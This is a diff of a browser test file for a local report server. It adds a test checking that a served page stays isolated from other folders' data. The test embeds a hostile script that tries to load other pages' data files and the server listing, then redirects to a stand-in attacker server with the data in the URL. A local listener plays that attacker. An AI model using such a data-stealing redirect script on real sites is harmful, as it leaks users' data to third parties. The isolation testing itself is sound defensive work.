@@ -2,9 +2,11 @@
 
 from collections.abc import Iterator
 from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
 from threading import Thread
 from typing import Any
+from urllib.parse import unquote
 
 import pytest
 
@@ -112,19 +114,74 @@ def test_pages_fit_a_phone_and_are_accessible(browser: Any, folder: Path, packag
         assert all(box["x"] + box["width"] <= 390 for a in links if (box := a.bounding_box()))
 
 
-def test_a_page_of_the_folder_is_kept_apart(browser: Any, folder: Path) -> None:
-    """It runs its scripts, and reads neither the list nor another server."""
-    (folder / "evil.html").write_text(
-        "<p id=out></p><script>"
-        "const tell = text => { document.getElementById('out').textContent += text + ' '; };"
-        "tell('runs');"
-        "const list = location.href.split('/file/')[0] + '/';"
-        "fetch(list).then(r => r.text()).then(t => tell('read'), () => tell('refused'));"
-        "try { localStorage.setItem('a', 'b'); tell('kept'); } catch { tell('apart'); }"
-        "</script>"
-    )
-    with served(folder) as url:
-        page = opened(browser, f"{url}file/0/evil.html")
+ATTACK = """<p id=out></p><script>
+const say = text => { document.getElementById("out").textContent += text + " "; };
+const got = [];
+function citeforgeChunk(name, value) { got.push(value); }
+say("runs");
+fetch("LIST").then(r => r.text()).then(t => say("read"), () => say("refused"));
+try { localStorage.setItem("a", "b"); say("kept"); } catch { say("apart"); }
+const places = ["sent.data/q.js", "mine.data/q.js", "LISTfile/0/mine.data/q.js", "MINE.data/q.js",
+  "LISTreport/KEY/page.data/q.js"];
+Promise.all(places.map(place => new Promise(done => {
+  const script = document.createElement("script");
+  script.src = place;
+  script.onload = script.onerror = done;
+  document.head.append(script);
+}))).then(() => {
+  const own = performance.getEntriesByType("navigation").map(e => e.name);
+  const seen = [location.href, document.referrer, ...own].join();
+  location = "ELSEWHERE/leak?" + encodeURIComponent(JSON.stringify([got, seen.includes("LIST")]));
+});
+</script>"""
+
+
+@contextmanager
+def listening() -> Iterator[tuple[str, list[str]]]:
+    """A server of an attacker: its address, and what it was asked for."""
+    asked: list[str] = []
+
+    class Answer(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(unquote(self.path))
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    with HTTPServer(("127.0.0.1", 0), Answer) as server:
+        thread = Thread(target=server.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_port}", asked
+        server.shutdown()
+        thread.join()
+
+
+def test_a_page_of_the_folder_is_kept_apart(
+    browser: Any, folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """It passes on its own data alone, even if it knew the addresses of the others."""
+    monkeypatch.setattr(report, "MOST_INLINE", 0)
+    for name in ("sent", "mine"):
+        (folder / f"{name}.data").mkdir()
+        (folder / f"{name}.data" / "q.js").write_text(f'citeforgeChunk("q", "{name}");')
+        (folder / f"{name}.html").write_text(f"<p>{name}</p>")
+    with served(folder) as url, listening() as (elsewhere, asked):
+        page = opened(browser, url)
+        mine = page.locator("a[href$='/mine.html']").get_attribute("href")
+        key = page.get_by_role("checkbox").first.get_attribute("value")
+        page.goto(f"{url}report/{key}/")  # so that its data are there to ask for
+        page.goto(url)
+        text = ATTACK.replace("MINE", mine.removesuffix(".html")).replace("KEY", key)
+        text = text.replace("LIST", url).replace("ELSEWHERE", elsewhere)
+        (folder / "sent.html").write_text(text)
+        page.locator("a[href$='/sent.html']").click()
+        page.wait_for_url(f"{elsewhere}/*")
+        assert [a for a in asked if "leak" in a] == ['/leak?[["sent"],false]']
+        (folder / "sent.html").write_text(text.replace("location =", "const kept ="))
+        page.goto(url)
+        page.locator("a[href$='/sent.html']").click()
         expect(page.locator("#out")).to_have_text("runs apart refused")
 
 
@@ -141,7 +198,8 @@ def test_a_written_report_works_from_the_server(
     out.write_bytes(report.page_report([sliced], None, out)[0])
     assert (tmp_path / "report.data" / "s.js").is_file()
     with served(tmp_path) as url:
-        page = opened(browser, f"{url}file/0/report.html")
+        page = opened(browser, url)
+        page.get_by_role("link", name="Open").click()
         page.locator("#x-s").select_option("type=b")
         expect(page.locator("#x-count")).to_contain_text("5 of 10 queries")
         expect(page.locator("#x-detail")).to_contain_text("q1 · type: b")
